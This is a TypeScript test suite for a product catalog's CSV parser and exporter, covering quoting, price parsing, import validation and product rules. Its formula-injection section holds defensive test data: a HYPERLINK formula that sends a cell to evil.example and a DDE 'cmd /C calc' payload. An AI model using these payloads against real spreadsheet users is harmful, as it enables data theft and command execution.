import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseCsv, toCsv } from '../../shared/catalog/csv'
import { parseProductCsv, productsToCsv } from '../../shared/catalog/product-csv'
import { MAX_IMPORT_ROWS } from '../../shared/catalog/vocabulary'
import { TEMPLATE_CSV } from '../../shared/catalog/csv-columns'
import { centsToDollars, parseDollars } from '../../shared/money'
import { dealerCostCents, discontinue, newProduct, priceChanged, replaceProduct, sameAsStored } from '../../shared/catalog/rules'
import { ValidationError } from '../../shared/errors'
import { ProductInput } from '../../shared/schemas/product'
import { CSV_HEADER, productBody } from '../helpers/products'

const now = new Date('2026-11-25T10:00:00Z')
const input = ProductInput.parse(productBody())

function issuesOf(run: () => unknown) {
  try {
    run()
  } catch (error) {
    if (error instanceof ValidationError) return error.issues
    throw error
  }
  throw new Error('expected a ValidationError')
}

describe('parseCsv / toCsv', () => {
  it('handles quotes, embedded commas, quotes and line breaks, CRLF, a BOM and blank lines', () => {
    const text = '\ufeffa,b,c\r\n"x, y","say ""hi""","two\nlines"\r\n\r\n1,,3'
    expect(parseCsv(text)).toEqual([
      ['a', 'b', 'c'],
      ['x, y', 'say "hi"', 'two\nlines'],
      ['1', '', '3'],
    ])
  })

  it('round-trips whatever it writes', () => {
    const rows = [['a', ' lead', 'comma,', 'quote"', 'line\nbreak', '']]
    expect(parseCsv(toCsv(rows))).toEqual(rows)
  })
})

/** A written one-cell line as a spreadsheet reads the cell: unquoted, quotes unescaped. */
const spreadsheetCell = (line: string) => {
  const cell = line.replace(/\r\n$/, '')
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell
}

describe('CSV formula injection (OWASP)', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('writes a text cell starting with %j as quoted text after a single quote', (c) => {
    const cell = `${c}1+2`
    expect(toCsv([[cell, 'ok']])).toBe(`"'${c}1+2",ok\r\n`)
    expect(parseCsv(toCsv([[cell, 'ok']]))).toEqual([[cell, 'ok']])
  })

  it('neutralises a real payload and keeps its quotes intact', () => {
    const payload = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    expect(toCsv([[payload]])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"\r\n`)
    expect(parseCsv(toCsv([[payload]]))).toEqual([[payload]])
  })

  it('keeps apostrophes that were already there, and writes numbers as numbers', () => {
    expect(toCsv([["'=x", "'plain", "'", "''"]])).toBe(`"''=x",'plain,',''\r\n`)
    expect(parseCsv(toCsv([["'=x", "'plain", "'", "''"]]))).toEqual([["'=x", "'plain", "'", "''"]])
    expect(toCsv([[-5, 0, 12.5]])).toBe('-5,0,12.5\r\n')
  })

  it('reads a leading single quote before a formula character as the writer’s, quoted or not', () => {
    expect(parseCsv(`'=1+2,"'-3",'@x,'a,"''+b"`)).toEqual([['=1+2', '-3', '@x', "'a", "'+b"]])
  })

  const cellText = fc.string({
    unit: fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', 'a', '1', 'é'),
      fc.string({ unit: 'binary', maxLength: 1 }),
    ),
    maxLength: 12,
  })

  it('round-trips every table of text (property)', () => {
    // the parser drops blank rows, so each row starts with a non-blank cell
    const table = fc.array(
      fc.array(cellText, { maxLength: 5 }).map((cells) => ['k', ...cells]),
      { maxLength: 5 },
    )
    fc.assert(
      fc.property(table, (rows) => {
        expect(parseCsv(toCsv(rows))).toEqual(rows)
      }),
    )
  })

  it('never writes a cell a spreadsheet would run as a formula (property)', () => {
    fc.assert(
      fc.property(cellText, (cell) => {
        expect(spreadsheetCell(toCsv([[cell]]))).not.toMatch(/^[=+\-@\t\r]/)
      }),
    )
  })
})

describe('parseProductCsv', () => {
  it('parses protocols split by | or ; with friendly aliases', () => {
    const [p] = parseProductCsv(`${CSV_HEADER}\nA-1,Hub,lighting-control,100,90,active,Matter|Thread; WiFi;zwave,2,,`)
    expect(p!.protocols).toEqual(['matter', 'thread', 'wi-fi', 'z-wave'])
  })

  it('reports every bad row by spreadsheet line and column', () => {
    const issues = issuesOf(() =>
      parseProductCsv(
        [
          CSV_HEADER,
          'A-1,Hub,lighting-control,100,90,active,,2,,',
          'A-2,Hub,lighting-control,100,190,active,,2,,',
          'A-3,,lighting-control,1.5,90,active,,2,,',
          'a-1,Dup,lighting-control,100,90,active,,2,,',
          'A-5,Short',
        ].join('\n'),
      ),
    )
    expect(issues.map((i) => i.field)).toEqual(['rows.3.mapCents', 'rows.4.name', 'rows.4.msrpCents', 'rows.5.sku', 'rows.6'])
  })

  it('refuses missing, unknown and repeated columns, empty files and oversized files', () => {
    expect(issuesOf(() => parseProductCsv('sku,name,sku')).map((i) => i.field)).toContain('header.sku')
    expect(issuesOf(() => parseProductCsv('')).map((i) => i.field)).toEqual(['file'])
    expect(issuesOf(() => parseProductCsv(CSV_HEADER)).map((i) => i.field)).toEqual(['file'])
    const many = Array.from({ length: MAX_IMPORT_ROWS + 1 }, (_, i) => `S-${i},N,emerging,1,1,active,,0,,`)
    expect(issuesOf(() => parseProductCsv([CSV_HEADER, ...many].join('\n')))[0]!.message).toMatch(
      new RegExp(`at most ${MAX_IMPORT_ROWS} `),
    )
  })

  it('exports what it imports', () => {
    const product = newProduct({ ...input, description: 'Says "hi", twice', protocols: ['matter', 'thread'] }, now)
    const [back] = parseProductCsv(productsToCsv([product]))
    expect(sameAsStored(product, back!)).toBe(true)
  })

  it('exports formula-like text as text that imports back unchanged', () => {
    const product = newProduct({ ...input, name: '@SUM(A1:A9)', description: "=cmd|' /C calc'!A0" }, now)
    const csv = productsToCsv([product])
    expect(csv).toContain(`"'@SUM(A1:A9)"`)
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`)
    const [back] = parseProductCsv(csv)
    expect(sameAsStored(product, back!)).toBe(true)
  })
})

describe('prices in dollars', () => {
  it('read as people write them, and round-trip through what the export writes', () => {
    expect(['129.95', '$129.95', '1,299.00', '$ 1,299', '1299.9', ' 0.01 ', '1,000,000.00'].map(parseDollars)).toEqual([
      12_995, 12_995, 129_900, 129_900, 129_990, 1, 100_000_000,
    ])
    for (const bad of ['', '$', '12,99', '1.234', '-5', 'abc', '1,2345.00', '1.2.3', '12995 cents', '$-1'])
      expect(parseDollars(bad), bad).toBeUndefined()
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 1e12 }), (cents) => {
        expect(parseDollars(centsToDollars(cents))).toBe(cents)
        const spreadsheet = (cents / 100).toLocaleString('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 })
        expect(parseDollars(`$${spreadsheet}`)).toBe(cents)
      }),
    )
  })

  it('import under msrp and map, export the same way, and round-trip any catalog', () => {
    const [p] = parseProductCsv(
      'sku,name,category,msrp,map,lifecycle,protocols,leadTimeDays\nA-1,Hub,Lighting-Control,"$1,299.00",1199.5,ACTIVE,Matter;ZigBee,2',
    )
    expect(p).toMatchObject({ msrpCents: 129_900, mapCents: 119_950, lifecycle: 'active', category: 'lighting-control' })
    expect(p!.protocols).toEqual(['matter', 'zigbee'])
    expect(productsToCsv([newProduct(input, now)]).split('\r\n')[0]).toBe(
      'sku,name,category,description,msrp,map,lifecycle,endOfLifeDate,protocols,leadTimeDays,specSheetDocumentId',
    )
    const product = fc.record({
      sku: fc.stringMatching(/^[A-Z0-9][A-Z0-9._/-]{0,20}$/),
      name: fc.string({ minLength: 1, maxLength: 40 }).filter((s) => s.trim() === s && s !== ''),
      msrpCents: fc.integer({ min: 1, max: 100_000_000 }),
      protocols: fc.subarray(['matter', 'thread', 'zigbee', 'wi-fi'] as const),
    })
    fc.assert(
      fc.property(product, fc.double({ min: 0, max: 1, noNaN: true }), (p, share) => {
        const stored = newProduct({ ...input, ...p, mapCents: Math.floor(p.msrpCents * share) }, now)
        const [back] = parseProductCsv(productsToCsv([stored]))
        expect(sameAsStored(stored, back!)).toBe(true)
      }),
    )
  })

  it('refuse a price given twice, and name the line, SKU, column and value of a bad cell', () => {
    const both = issuesOf(() => parseProductCsv('sku,name,category,msrp,msrpCents,map,lifecycle,protocols,leadTimeDays'))
    expect(both.map((i) => i.field)).toEqual(['header.msrpCents'])
    const issues = issuesOf(() =>
      parseProductCsv(
        [
          'sku,name,category,msrp,map,lifecycle,protocols,leadTimeDays',
          'A-1,Hub,lighting-control,"12,99",10,active,,2',
          'A-2,Hub,lighting-control,10,12.00,active,,2',
          'A-3,Hub,lighting-control,10,9,retired,,2',
          'A-4,Hub,lighting-control,10,9',
        ].join('\n'),
      ),
    )
    expect(issues).toEqual([
      { field: 'rows.2.msrp', sku: 'A-1', value: '12,99', message: 'Write the price in dollars, such as 129.95 or $1,299.00.' },
      { field: 'rows.3.map', sku: 'A-2', value: '12.00', message: 'MAP cannot exceed MSRP.' },
      {
        field: 'rows.4.lifecycle',
        sku: 'A-3',
        value: 'retired',
        message: 'Choose the lifecycle: one of active, announced, discontinued.',
      },
      { field: 'rows.5', sku: 'A-4', message: 'This row has 5 cells; the header has 8.' },
    ])
  })

  it('never import the template’s example rows', () => {
    const issues = issuesOf(() => parseProductCsv(TEMPLATE_CSV))
    expect(issues.map((i) => [i.field, i.sku])).toEqual([
      ['rows.2.sku', 'EXAMPLE-DIM-100'],
      ['rows.3.sku', 'EXAMPLE-HUB-200'],
    ])
    // the same rows with the SKUs of real products import
    expect(parseProductCsv(TEMPLATE_CSV.replace(/EXAMPLE-/g, 'MY-'))).toHaveLength(2)
  })
})

describe('product rules', () => {
  it('keeps MAP at or below MSRP and asks discontinued products for their EOL date', () => {
    expect(issuesOf(() => newProduct({ ...input, mapCents: input.msrpCents + 1 }, now)).map((i) => i.field)).toEqual(['mapCents'])
    expect(issuesOf(() => newProduct({ ...input, lifecycle: 'discontinued' }, now)).map((i) => i.field)).toEqual([
      'endOfLifeDate',
    ])
    expect(newProduct({ ...input, mapCents: input.msrpCents }, now).version).toBe(1)
  })

  it('replaces the same SKU only, bumping the version and keeping createdAt', () => {
    const p = newProduct(input, now)
    const next = replaceProduct(p, { ...input, name: 'New' }, new Date('2026-12-01T00:00:00Z'))
    expect(next).toMatchObject({ version: 2, name: 'New', createdAt: p.createdAt, updatedAt: '2026-12-01T00:00:00.000Z' })
    expect(issuesOf(() => replaceProduct(p, { ...input, sku: 'OTHER' }, now)).map((i) => i.field)).toEqual(['sku'])
  })

  it('detects price changes and computes dealer cost to the cent', () => {
    const p = newProduct(input, now)
    expect(priceChanged(undefined, p)).toBe(true)
    expect(priceChanged(p, { ...p, name: 'x' })).toBe(false)
    expect(priceChanged(p, { ...p, mapCents: 1 })).toBe(true)
    expect(dealerCostCents(12_995, 3200)).toBe(8_837) // 8836.6 rounds half up
    expect(dealerCostCents(10_000, 0)).toBe(10_000)
  })

  it('discontinues once, on the EOL date', () => {
    const p = newProduct(input, now)
    const gone = discontinue(p, '2026-12-31', now)
    expect(gone).toMatchObject({ lifecycle: 'discontinued', endOfLifeDate: '2026-12-31', version: 2 })
    expect(discontinue(gone, '2027-01-01', now)).toBe(gone)
  })
})

describe('line numbers in import errors', () => {
  it('count the physical lines: blank lines and line breaks inside quotes included', () => {
    const text = [
      CSV_HEADER,
      '',
      'A-1,"Hub with a',
      'two-line name",lighting-control,100,90,active,,2,,',
      'A-2,Hub,lighting-control,100,190,active,,2,,',
    ].join('\n')
    expect(issuesOf(() => parseProductCsv(text)).map((i) => i.field)).toEqual(['rows.5.mapCents'])
  })
})
